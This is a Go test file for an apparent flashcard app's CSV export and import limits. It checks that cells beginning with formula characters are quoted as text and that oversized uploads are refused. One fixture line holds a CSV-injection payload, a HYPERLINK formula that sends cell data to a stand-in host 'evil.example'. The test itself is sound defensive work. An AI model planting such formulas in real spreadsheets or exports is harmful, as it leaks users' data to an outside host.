package handlers_test

import (
	"context"
	"encoding/csv"
	"fmt"
	"net/http"
	"reflect"
	"strings"
	"testing"

	"github.com/lectern/lectern/internal/formats"
	"github.com/lectern/lectern/internal/quiz"
)

// formulaCards are flashcards whose text a spreadsheet would run as a
// formula, or read as a number, if a CSV cell started with it.
var formulaCards = [][2]string{
	{`=HYPERLINK("http://evil.example/?leak="&A1,"Open the map")`, "The Black Sea"},
	{"@SUM(1+1)", "a function call"},
	{"+33 1 23 45 67 89", "a telephone number"},
	{"What is 2 minus 7?", "-5"},
}

// An instructor uploads flashcards whose fronts are spreadsheet formulas;
// the course's CSV download holds them as text (a single quote in front),
// and Lectern reads its own download back to the very same text.
func TestCSVDownloadNeutralisesFormulas(t *testing.T) {
	a := newApp(t)
	b := teacherOn(t, a)
	var file strings.Builder
	w := csv.NewWriter(&file)
	for _, c := range formulaCards {
		w.Write([]string{c[0], c[1]})
	}
	w.Flush()
	up := b.upload("/teach/courses/rivers/import", "formulas.csv", []byte(file.String()),
		map[string]string{"theme": "danube", "title": "Formulas", "publish": "1"})
	wantStatus(t, up, http.StatusSeeOther)
	wantStatus(t, b.post(up.header.Get("Location"), nil), http.StatusSeeOther)

	dl := b.get("/teach/courses/rivers/export/csv")
	wantStatus(t, dl, http.StatusOK)
	rd := csv.NewReader(strings.NewReader(dl.body))
	rd.FieldsPerRecord = -1
	rd.Comment = '#'
	records, err := rd.ReadAll()
	if err != nil {
		t.Fatalf("the download is not CSV: %v\n%s", err, dl.body)
	}
	for i, rec := range records {
		for _, cell := range rec {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("record %d: cell %q starts with a formula character", i+1, cell)
			}
		}
	}
	if !strings.Contains(dl.body, `'=HYPERLINK(`) || !strings.Contains(dl.body, ",'-5\n") {
		t.Errorf("the formula and the negative number are not quoted as text:\n%s", dl.body)
	}

	res, err := formats.ParseCSV(strings.NewReader(dl.body), ',', formats.Options{Theme: "danube"})
	if err != nil {
		t.Fatal(err)
	}
	back := map[string]string{}
	for _, c := range res.Cards {
		back[c.Front] = c.Back
	}
	for _, c := range formulaCards {
		if got, ok := back[c[0]]; !ok || got != c[1] {
			t.Errorf("reading the download back: %q → %q (found %v), want %q", c[0], got, ok, c[1])
		}
	}
}

// bulkGIFT returns a GIFT file of n true-or-false questions.
func bulkGIFT(n int) []byte {
	var b strings.Builder
	for i := range n {
		fmt.Fprintf(&b, "::bulk-%d:: Statement number %d about the Danube is true. {T}\n\n", i+1, i+1)
	}
	return []byte(b.String())
}

// A file of more questions than Lectern imports from one file is refused
// at the upload, saying how many it holds and the limit, and nothing is
// written; a file of exactly the limit is imported.
func TestImportRefusesTooManyItems(t *testing.T) {
	a := newApp(t)
	b := teacherOn(t, a)
	ctx := context.Background()
	before, err := a.db.ExportCourse(ctx, "rivers")
	if err != nil {
		t.Fatal(err)
	}
	form := map[string]string{"theme": "danube", "title": "Bulk", "publish": "1"}
	up := b.upload("/teach/courses/rivers/import", "bulk.gift", bulkGIFT(quiz.MaxImportItems+1), form)
	wantStatus(t, up, http.StatusUnprocessableEntity)
	msg := up.doc.Find(`[data-testid="file-errors"]`).Text()
	if !strings.Contains(msg, fmt.Sprintf("holds %d questions", quiz.MaxImportItems+1)) || !strings.Contains(msg, fmt.Sprintf("at most %d", quiz.MaxImportItems)) {
		t.Errorf("the refusal says %q", msg)
	}
	after, err := a.db.ExportCourse(ctx, "rivers")
	if err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(before, after) {
		t.Error("a refused file changed the course")
	}
	sets, _ := a.db.ListSets(ctx, 1)
	for _, s := range sets {
		if s.Title == "Bulk" {
			t.Fatalf("a refused file left a set: %+v", s)
		}
	}

	up = b.upload("/teach/courses/rivers/import", "bulk.gift", bulkGIFT(quiz.MaxImportItems), form)
	wantStatus(t, up, http.StatusSeeOther)
	wantStatus(t, b.post(up.header.Get("Location"), nil), http.StatusSeeOther)
	after, _ = a.db.ExportCourse(ctx, "rivers")
	if got := len(after.Questions) - len(before.Questions); got != quiz.MaxImportItems {
		t.Errorf("imported %d questions, want %d", got, quiz.MaxImportItems)
	}
}
